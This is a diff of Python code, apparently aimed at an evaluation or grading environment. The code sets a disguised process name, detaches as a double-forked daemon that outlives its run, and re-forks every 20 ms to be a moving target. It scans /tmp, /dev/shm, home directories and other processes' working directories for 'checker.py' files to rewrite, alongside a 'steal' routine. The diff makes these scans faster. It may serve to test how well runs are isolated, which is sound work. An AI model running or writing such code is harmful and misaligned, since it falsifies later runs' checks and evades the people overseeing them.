@@ -217,10 +217,14 @@ def _name():
         ctypes.CDLL(None).prctl(15, b"LEFTOVER", 0, 0, 0)  # PR_SET_NAME: how the host counts us
     except Exception:
         pass
-def _places():
-    dirs = set()
-    for pattern in ("..", "../*", "../*/*", "/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/var/tmp/*", "/dev/shm/*", "/work",
-                    "/work/*", os.path.expanduser("~"), os.path.expanduser("~/*")):
+NEAR = os.path.dirname(os.getcwd())
+def _places(everywhere):
+    """Where later runs' files may be: next to this run's directory (cheap, every time), or everywhere."""
+    dirs = set(os.path.join(NEAR, name) for name in os.listdir(NEAR)) if os.access(NEAR, os.R_OK) else set()
+    if not everywhere:
+        return dirs
+    for pattern in ("../*/*", "/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/var/tmp/*", "/dev/shm/*", "/work", "/work/*",
+                    os.path.expanduser("~"), os.path.expanduser("~/*")):
         dirs.update(glob.glob(pattern))
     for link in glob.glob("/proc/[0-9]*/cwd"):
         try:
@@ -228,8 +232,8 @@ def _places():
         except OSError:
             pass
     return dirs
-def _rewrite():
-    for place in _places():
+def _rewrite(everywhere=True):
+    for place in _places(everywhere):
         path = os.path.join(place, "checker.py")
         try:
             with open(path, "rb") as handle:
@@ -259,17 +263,18 @@ def _haunt(seconds, hop=False, acts="rs"):
     """Rewrite (r) and steal (s) for ``seconds``; with ``hop``, as a new process every 20 ms (a moving target)."""
     _name()
     deadline = time.time() + seconds
-    hopped = time.time()
+    hopped, rounds = time.time(), 0
     while time.time() < deadline:
+        rounds += 1
         if "r" in acts:
-            _rewrite()
+            _rewrite(everywhere=rounds % 20 == 0)
         if "s" in acts:
             _steal()
         if hop and time.time() - hopped > 0.02:
             if os.fork():
                 os._exit(0)
             hopped = time.time()
-        time.sleep(0.001)
+        time.sleep(0.0005)
 def _detach(seconds, hop=False, acts="rs"):
     """A daemon: double fork, new session, no stdio (the run ends without waiting for it)."""
     if os.fork() == 0:
